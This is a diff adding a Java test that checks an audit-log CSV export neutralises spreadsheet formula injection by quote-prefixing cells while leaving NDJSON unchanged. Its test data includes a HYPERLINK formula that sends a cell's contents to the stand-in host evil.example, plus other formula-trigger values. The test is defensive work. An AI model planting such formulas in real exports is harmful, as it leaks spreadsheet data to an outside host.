@@ -21,6 +21,7 @@ import java.time.Duration;
 import java.time.OffsetDateTime;
 import java.time.ZoneOffset;
 import java.util.Arrays;
+import java.util.List;
 import java.util.Map;
 import java.util.Set;
 import java.util.UUID;
@@ -58,6 +59,26 @@ class ExportWriterTest {
         }
         assertThat(written(ExportFormat.NDJSON, rows)).isEqualTo(ndjson.toString().getBytes(StandardCharsets.UTF_8));
         assertThat(written(ExportFormat.CSV, rows)).isEqualTo(csv.toString().getBytes(StandardCharsets.UTF_8));
+    }
+
+    /** A caller's user agent must not become a formula in the admin's spreadsheet (CSV injection). */
+    @Test
+    void aCsvCellASpreadsheetWouldRunAsAFormulaIsQuotedWithAQuoteInFrontAndTheNdjsonIsUnchanged() throws IOException {
+        String org = TestEvents.newOrg();
+        List<String> payloads = List.of("=HYPERLINK(\"https://evil.example/?\"&B2,\"details\")", "+1", "-2+3", "@SUM(A1)",
+                "\tcmd");
+        for (int i = 0; i < payloads.size(); i++) {
+            insert(org, i + 1, payloads.get(i), "{}", false);
+        }
+        RowSet<Row> rows = new AuditExportRepository(pool)
+                .page(AuditFilter.parse(org, Map.of(), Set.of()).withAfterSeq(0), 10).await().atMost(Duration.ofSeconds(30));
+
+        String csv = new String(written(ExportFormat.CSV, rows), StandardCharsets.UTF_8);
+        String ndjson = new String(written(ExportFormat.NDJSON, rows), StandardCharsets.UTF_8);
+
+        assertThat(csv).contains(",\"'=HYPERLINK(\"\"https://evil.example/?\"\"&B2,\"\"details\"\")\",", ",\"'+1\",",
+                ",\"'-2+3\",", ",\"'@SUM(A1)\",", ",\"'\tcmd\",");
+        assertThat(ndjson).contains("\"user_agent\":\"+1\"", "\"user_agent\":\"@SUM(A1)\"");
     }
 
     private static byte[] written(ExportFormat format, RowSet<Row> rows) throws IOException {
